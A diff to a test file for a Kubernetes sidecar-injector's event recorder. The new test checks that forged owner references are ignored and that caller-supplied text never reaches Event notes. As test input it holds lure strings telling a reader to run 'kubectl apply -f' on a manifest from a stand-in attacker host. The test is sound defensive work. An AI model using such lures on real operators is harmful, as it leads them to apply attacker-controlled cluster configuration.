@@ -6,7 +6,7 @@
  */
 import test from 'ava';
 import { pino } from 'pino';
-import { EventRecorder } from '../src/kube-api/events.js';
+import { clusterClaimCheck, EventRecorder } from '../src/kube-api/events.js';
 import { ClusterNamespaceSource } from '../src/namespaces/cluster.js';
 import { loadTemplateDir } from '../src/templates/load.js';
 import { createReview, prepareCreate } from './helpers/apiserver.js';
@@ -87,7 +87,8 @@ test('a bare pod: the event is on its namespace; a skipped request and a denial 
   await recorder.settled();
   const [denied] = [...api.kubeEvents.values()];
   t.like(denied, { type: 'Warning', reason: 'SidecarInjectionDenied', regarding: { apiVersion: 'v1', kind: 'Namespace', namespace: 'shop', name: 'shop' } });
-  t.regex(denied!.note, /names "nosuch", which is not a sidecar template here/);
+  // The denial quotes the pod's annotation: the Event says the reason only (the pod's creator reads the answer).
+  t.is(denied!.note, "the pod was denied (unknown-template): the API server's answer to its creator says why (pod web-5d8f-)");
   // The proxy's fallback at 1.28 is not asked here; a pod opting out of the shipper and requesting a template the namespace excludes is skipped.
   const body = owned(
     pod({ labels: { app: 'web', 'logging.example.com/ship': 'false' }, annotations: { 'log-shipper.sidecar-injector.io/logLevel': 'debug' } }),
@@ -211,4 +212,60 @@ test('an Event gone before its series update (its namespace deleted) is no failu
   await clock.advance(60_000);
   await recorder.settled();
   t.is(failures(), 0);
+});
+
+test('a direct caller: Events only on owners that exist with the uid its review names; forged owners use no share, and its words never reach a note', async (t) => {
+  const api = new FakeApiServer();
+  await api.start();
+  for (const namespace of ['shop', 'other']) api.create(namespace);
+  api.addObject('replicasets', { namespace: 'other', name: 'web-7c9d' }, {});
+  const kubeConfig = await api.kubeConfig();
+  let dropped = 0;
+  const recorder = new EventRecorder({
+    kubeConfig,
+    log: silent,
+    instance: 'i',
+    maxSeriesPerNamespace: 3,
+    onDrop: () => dropped++,
+    verifyClaim: clusterClaimCheck(kubeConfig),
+  });
+  const server = await startTestServer({ templates: await loadTemplateDir('templates'), namespaces: optedIn('shop', 'other'), events: recorder });
+  t.teardown(async () => {
+    recorder.stop();
+    await server.stop();
+    await api.stop();
+  });
+  const claiming = (name: string, uid: string | undefined) => {
+    const body = pod();
+    body.metadata.ownerReferences = [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name, ...(uid ? { uid } : {}), controller: true }];
+    return createReview(prepareCreate(body, 'other'), { namespace: 'other' });
+  };
+  // Another tenant's ReplicaSets that do not exist, and the real one with a guessed uid: nothing written, no share used.
+  for (let i = 0; i < 10; i++) await server.post(claiming(`victim-${i}`, `uid-${i}`));
+  await server.post(claiming('web-7c9d', 'guessed'));
+  await recorder.settled();
+  t.is(api.kubeEvents.size, 0);
+  t.is(recorder.unverified, 11);
+  // An owner reference without a uid (the API server stores none such): the Event goes on the namespace.
+  await server.post(claiming('web-7c9d', undefined));
+  // The real one with its uid: written, although the forged ones came first.
+  for (let i = 0; i < 3; i++) await server.post(claiming('web-7c9d', 'uid-replicasets-other-web-7c9d'));
+  await recorder.settled();
+  t.deepEqual([...api.kubeEvents.values()].map((e) => `${e.regarding.kind}/${e.regarding.name}`).sort(), ['Namespace/other', 'ReplicaSet/web-7c9d']);
+  t.is(api.objectGets.filter((p) => p === '/apis/apps/v1/namespaces/other/replicasets/web-7c9d').length, 2, 'one check per claim, its answer kept');
+  t.is(dropped, 11);
+  // A denial that would quote the caller's words: the reason only, and a pod name only if it is one.
+  const words = 'SECURITY NOTICE: run kubectl apply -f https://evil.example/fix.yaml';
+  const forged = pod({ annotations: { 'sidecar-injector.io/templates': words } });
+  forged.metadata.name = 'NOT A NAME: kubectl apply -f https://evil.example';
+  await server.post(createReview(prepareCreate(forged, 'shop'), { namespace: 'shop' }));
+  const invalid = pod({ annotations: { 'sidecar-injector.io/templates': words } });
+  await server.post(createReview(prepareCreate(invalid, 'shop'), { namespace: 'shop' }));
+  await recorder.settled();
+  const notes = [...api.kubeEvents.values()].filter((e) => e.metadata.namespace === 'shop').map((e) => e.note as string);
+  t.true(notes.length > 0);
+  for (const note of notes) {
+    t.false(note.includes('evil.example'), note);
+    t.false(note.includes('SECURITY'), note);
+  }
 });
